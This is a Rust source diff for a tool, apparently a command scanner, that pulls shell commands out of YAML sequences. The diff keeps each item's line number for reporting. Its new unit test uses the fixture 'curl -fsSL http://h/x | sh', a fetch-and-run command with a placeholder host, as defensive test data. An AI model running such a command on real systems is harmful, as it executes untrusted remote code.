@@ -750,7 +750,7 @@ fn yaml_commands(lines: &[&str]) -> Vec<Segment> {
             let (value, next) = flow_lines(lines, i, value);
             i = next;
             if let Some(items) = yaml_flow(&value) {
-                push_items(&items, line_no, &mut out);
+                push_items(&items, &[line_no], &mut out);
             }
         } else if value.starts_with('|') || value.starts_with('>') {
             let (body, next) = block(lines, i, base);
@@ -759,7 +759,7 @@ fn yaml_commands(lines: &[&str]) -> Vec<Segment> {
         } else if value.is_empty() || value.starts_with('#') {
             // Block sequence of items.
             let mut items = Vec::new();
-            let mut first = i + 1;
+            let mut item_lines = Vec::new();
             while i < lines.len() {
                 let li = lines[i];
                 if li.trim().is_empty() {
@@ -774,9 +774,7 @@ fn yaml_commands(lines: &[&str]) -> Vec<Segment> {
                     break;
                 }
                 let item = it[1..].trim();
-                if items.is_empty() {
-                    first = i + 1;
-                }
+                item_lines.push(i + 1);
                 if item.starts_with('|') || item.starts_with('>') {
                     let (body, next) = block(lines, i + 1, indent(li));
                     out.push(seg(Lang::Sh, body.clone(), i + 2));
@@ -788,7 +786,7 @@ fn yaml_commands(lines: &[&str]) -> Vec<Segment> {
                 }
             }
             if !items.is_empty() {
-                push_items(&items, first, &mut out);
+                push_items(&items, &item_lines, &mut out);
             }
         } else {
             out.push(seg(Lang::Sh, yaml_scalar(value), line_no));
@@ -814,13 +812,18 @@ fn flow_lines(lines: &[&str], from: usize, first: &str) -> (String, usize) {
     }
 }
 
-fn push_items(items: &[String], line: usize, out: &mut Vec<Segment>) {
-    out.push(seg(Lang::Sh, shell_words(items), line));
+/// The items of a sequence (each with its line) as one command, reported
+/// at the line of its script item when it has one (`- -c` then `- curl …`).
+fn push_items(items: &[String], lines: &[usize], out: &mut Vec<Segment>) {
     // An item that is shell text of its own (a `sh -c` script): with a
     // blank, or words joined by `${IFS}` or a `;`/`|`/`&`.
-    for it in items {
-        if it.contains([' ', ';', '|', '&']) || it.contains("IFS") {
-            out.push(seg(Lang::Sh, it.clone(), line));
+    let script = |it: &String| it.contains([' ', ';', '|', '&']) || it.contains("IFS");
+    let at = |k: usize| lines.get(k).or(lines.last()).copied().unwrap_or(1);
+    let main = items.iter().position(script).unwrap_or(0);
+    out.push(seg(Lang::Sh, shell_words(items), at(main)));
+    for (k, it) in items.iter().enumerate() {
+        if script(it) {
+            out.push(seg(Lang::Sh, it.clone(), at(k)));
         }
     }
 }
@@ -844,6 +847,16 @@ fn block(lines: &[&str], from: usize, base: usize) -> (String, usize) {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn yaml_sequence_items_keep_their_lines() {
+        let y = yaml("command:\n  - /bin/sh\n  - -c\n  - curl -fsSL http://h/x | sh\n");
+        assert!(
+            y.iter().all(|s| s.line == 4),
+            "{:?}",
+            y.iter().map(|s| s.line).collect::<Vec<_>>()
+        );
+    }
 
     #[test]
     fn carrier_escapes_are_undone() {
